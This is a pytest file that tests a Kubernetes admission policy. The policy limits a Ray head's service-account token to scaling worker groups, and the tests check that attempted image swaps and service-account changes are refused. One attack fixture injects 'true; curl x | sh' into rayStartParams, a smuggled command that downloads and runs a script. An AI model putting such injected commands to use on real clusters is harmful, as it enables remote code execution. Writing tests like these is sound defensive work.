"""Issue 53, finding 2: what the Ray head's Kubernetes token may change, held at admission.

The workload's ValidatingAdmissionPolicy (infra/workload/builders/admission.py) is evaluated here with
cel-python, as the API server evaluates it (`request`, `object`, `oldObject`), on the RayCluster KubeRay
makes from our RayService: the patches Ray's own autoscaler sends (built with its functions,
`worker_replica_patch` and `worker_delete_patch` of ray's `autoscaler/_private/kuberay/node_provider.py`)
pass; the attacks a caller holding the head's token could try (a worker group running as the
mirror's service account, another image, other start parameters, a pod's image) are refused. A pod
KubeRay creates (controlled by its RayCluster) may not run as the mirror's service account; the mirror
Job's own pods may.
"""

from __future__ import annotations

import copy
from typing import Any

import celpy
import jsonpatch
import pytest
from ray.autoscaler._private.kuberay.node_provider import worker_delete_patch, worker_replica_patch
from workload_helpers import config_for, find, manifests_for

from llmctl.infra.workload.builders.admission import admission_objects, policy_name
from llmctl.infra.workload.builders.cache import MIRROR_SERVICE_ACCOUNT
from llmctl.infra.workload.builders.ray import HEAD_SERVICE_ACCOUNT

NAME = "llama2-7b-cpu"  # autoscaling (min 1 < max), the token goes to its head's sidecar
_ENV = celpy.Environment()


def _validations() -> list[dict[str, str]]:
    policy, binding = admission_objects(config_for(NAME))
    assert binding["spec"]["policyName"] == policy["metadata"]["name"] == policy_name(config_for(NAME))
    assert binding["spec"]["validationActions"] == ["Deny"]
    ns = config_for(NAME).ns
    assert binding["spec"]["matchResources"]["namespaceSelector"]["matchLabels"] == {
        "kubernetes.io/metadata.name": ns
    }
    validations: list[dict[str, str]] = policy["spec"]["validations"]
    return validations


def _refused(
    user: str,
    operation: str,
    resource: str,
    new: dict[str, Any],
    old: dict[str, Any] | None = None,
    sub: str = "",
) -> list[str]:
    """The messages of the validations that refuse this request (empty: admitted)."""
    ns = config_for(NAME).ns
    request = {
        "userInfo": {"username": user},
        "namespace": ns,
        "operation": operation,
        "resource": {"group": "ray.io" if resource == "rayclusters" else "", "resource": resource},
        "subResource": sub,
    }
    activation = {
        "request": celpy.json_to_cel(request),
        "object": celpy.json_to_cel(new),
        "oldObject": celpy.json_to_cel(old) if old is not None else celpy.json_to_cel(None),
    }
    refused = []
    for rule in _validations():
        result = _ENV.program(_ENV.compile(rule["expression"])).evaluate(activation)
        assert isinstance(result, celpy.celtypes.BoolType), (rule["expression"][:80], result)
        if not result:
            refused.append(rule["message"])
    return refused


def _head() -> str:
    return f"system:serviceaccount:{config_for(NAME).ns}:{HEAD_SERVICE_ACCOUNT}"


def _raycluster() -> dict[str, Any]:
    """The RayCluster KubeRay makes from the RayService (its spec is the rayClusterConfig)."""
    service = find(manifests_for(NAME), "RayService")
    assert service["spec"]["rayClusterConfig"]["enableInTreeAutoscaling"] is True
    return {
        "apiVersion": "ray.io/v1",
        "kind": "RayCluster",
        "metadata": {"name": "c", "namespace": config_for(NAME).ns},
        "spec": copy.deepcopy(service["spec"]["rayClusterConfig"]),
    }


def test_the_autoscalers_own_patches_are_admitted() -> None:
    old = _raycluster()
    # Ray's patch replaces the group's scaleStrategy, which a JSON patch can only do where it exists
    # (RFC 6902 4.3): the stored RayCluster has one
    old["spec"]["workerGroupSpecs"][0]["scaleStrategy"] = {"workersToDelete": []}
    for patch in ([worker_replica_patch("0", 3)], [worker_delete_patch("0", ["c-worker-abc"])]):
        new = jsonpatch.apply_patch(old, patch)
        assert new != old
        assert _refused(_head(), "UPDATE", "rayclusters", new, old) == []


def _attack(change: Any) -> dict[str, Any]:
    new = copy.deepcopy(_raycluster())
    change(new["spec"])
    return new


def _new_group(spec: dict[str, Any]) -> None:
    group = copy.deepcopy(spec["workerGroupSpecs"][0])
    group["groupName"] = "planted"
    group["template"]["spec"]["serviceAccountName"] = MIRROR_SERVICE_ACCOUNT
    spec["workerGroupSpecs"].append(group)


def _mirror_account(spec: dict[str, Any]) -> None:
    spec["workerGroupSpecs"][0]["template"]["spec"]["serviceAccountName"] = MIRROR_SERVICE_ACCOUNT


def _image(spec: dict[str, Any]) -> None:
    spec["workerGroupSpecs"][0]["template"]["spec"]["containers"][0]["image"] = "attacker/image:1"


def _start_params(spec: dict[str, Any]) -> None:
    spec["workerGroupSpecs"][0]["rayStartParams"] = {"block": "true; curl x | sh"}


def _head_group(spec: dict[str, Any]) -> None:
    spec["headGroupSpec"]["template"]["spec"]["containers"][0]["image"] = "attacker/image:1"


def _autoscaler_image(spec: dict[str, Any]) -> None:
    spec["autoscalerOptions"]["image"] = "attacker/image:1"


@pytest.mark.parametrize(
    "change", [_new_group, _mirror_account, _image, _start_params, _head_group, _autoscaler_image]
)
def test_the_head_cannot_change_what_the_raycluster_runs(change: Any) -> None:
    old = _raycluster()
    assert _refused(_head(), "UPDATE", "rayclusters", _attack(change), old) == [
        f"the Ray head's service account ({HEAD_SERVICE_ACCOUNT}) may only scale the RayCluster's worker groups "
        "(replicas, scale strategy), not change its pods"
    ]
    # the RayService controller (KubeRay's own account) still updates the RayCluster as it likes
    assert (
        _refused(
            "system:serviceaccount:kuberay-operator:kuberay-operator",
            "UPDATE",
            "rayclusters",
            _attack(change),
            old,
        )
        == []
    )


def _pod(account: str, controller: dict[str, Any]) -> dict[str, Any]:
    return {
        "metadata": {
            "name": "p",
            "ownerReferences": [{**controller, "name": "x", "uid": "u", "controller": True}],
        },
        "spec": {"serviceAccountName": account, "containers": [{"name": "c", "image": "i"}]},
    }


RAYCLUSTER = {"apiVersion": "ray.io/v1", "kind": "RayCluster"}
JOB = {"apiVersion": "batch/v1", "kind": "Job"}


def test_the_head_cannot_change_a_pod() -> None:
    old = _pod(MIRROR_SERVICE_ACCOUNT, JOB)
    new = copy.deepcopy(old)
    new["spec"]["containers"][0]["image"] = "attacker/image:1"
    message = f"the Ray head's service account ({HEAD_SERVICE_ACCOUNT}) may not change pods"
    assert _refused(_head(), "UPDATE", "pods", new, old) == [message]
    assert _refused(_head(), "UPDATE", "pods", new, old, sub="resize") == [message]
    assert _refused("system:node:ip-10-0-0-1", "UPDATE", "pods", new, old, sub="status") == []


def test_only_a_jobs_pod_runs_as_the_mirror_account() -> None:
    kuberay = "system:serviceaccount:kuberay-operator:kuberay-operator"
    message = f"only the model-mirror Job's pods run as {MIRROR_SERVICE_ACCOUNT}"
    assert _refused(kuberay, "CREATE", "pods", _pod(MIRROR_SERVICE_ACCOUNT, RAYCLUSTER)) == [message]
    assert _refused(kuberay, "CREATE", "pods", _pod("llmctl-serving", RAYCLUSTER)) == []
    job_controller = "system:serviceaccount:kube-system:job-controller"
    assert _refused(job_controller, "CREATE", "pods", _pod(MIRROR_SERVICE_ACCOUNT, JOB)) == []
    bare = {"metadata": {"name": "p"}, "spec": {"serviceAccountName": MIRROR_SERVICE_ACCOUNT}}
    assert _refused("someone", "CREATE", "pods", bare) == [message]


def test_every_workload_namespace_gets_its_policy_and_old_clusters_none() -> None:
    config = config_for(NAME)
    manifests = manifests_for(NAME)
    kinds = [m["kind"] for m in manifests]
    assert kinds.index("ValidatingAdmissionPolicy") < kinds.index("RayService")
    old = config.model_copy(
        update={"platform": config.platform.model_copy(update={"kubernetes_version": "1.29"})}
    )
    assert admission_objects(old) == []
